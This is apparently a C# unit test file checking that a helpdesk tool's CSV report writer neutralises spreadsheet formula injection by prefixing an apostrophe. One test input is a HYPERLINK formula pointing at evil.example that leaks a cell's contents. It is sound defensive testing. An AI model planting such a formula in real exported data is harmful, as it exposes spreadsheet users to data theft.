using HelpdeskSidecar.Copilot.Classification;
using HelpdeskSidecar.Reports;

namespace HelpdeskSidecar.Tests.Reports;

/// <summary>The CSV every report writes: RFC 4180, and no cell a spreadsheet would run as a formula (OWASP's rule).</summary>
public class ReportCsvTests
{
    [TestCase("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"")]
    [TestCase("@SUM(1+1)", "\"'@SUM(1+1)\"")]
    [TestCase("+1+1", "\"'+1+1\"")]
    [TestCase("-2+3", "\"'-2+3\"")]
    [TestCase("\t=1+1", "\"'\t=1+1\"")]
    [TestCase("\r=1+1", "\"'\r=1+1\"")]
    [TestCase("＝1+1", "\"'＝1+1\"")]
    public void Escape_CellStartingLikeAFormula_QuotedWithALeadingApostrophe(string cell, string written)
    {
        Assert.That(ReportCsv.Escape(cell), Is.EqualTo(written));
    }

    [TestCase("refund_status", "refund_status")]
    [TestCase("a,b", "\"a,b\"")]
    [TestCase("1+1=2", "1+1=2")]
    [TestCase("", "")]
    public void Escape_OrdinaryCell_AsBefore(string cell, string written)
    {
        Assert.That(ReportCsv.Escape(cell), Is.EqualTo(written));
    }

    [Test]
    public void Write_NumbersWeFormat_StayPlainNumbers()
    {
        var csv = ReportCsv.Write(["key", "n", "rate", "cost"], [["@x", ReportCsv.Cell(12), ReportCsv.Cell(0.25), ReportCsv.Cell(0.0021m)]]);
        Assert.That(csv, Is.EqualTo("key,n,rate,cost\r\n\"'@x\",12,0.25,0.0021\r\n"));
    }

    [Test]
    public void Write_ReadBack_NoCellStartsLikeAFormula_AndTheTextIsKeptAfterTheApostrophe()
    {
        string[] cells = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain"];
        var csv = ReportCsv.Write(["c"], cells.Select(c => (IReadOnlyList<string>)[c]));

        var read = CsvTable.Read(new StringReader(csv), "report.csv", CsvQuotes.Strict, "c").Select(r => r["c"]).ToList();

        Assert.That(read.Where(c => c.Length > 0 && "=+-@\t\r".Contains(c[0])), Is.Empty);
        Assert.That(read, Is.EqualTo(cells.Select(c => c == "plain" ? c : "'" + c)));
    }
}
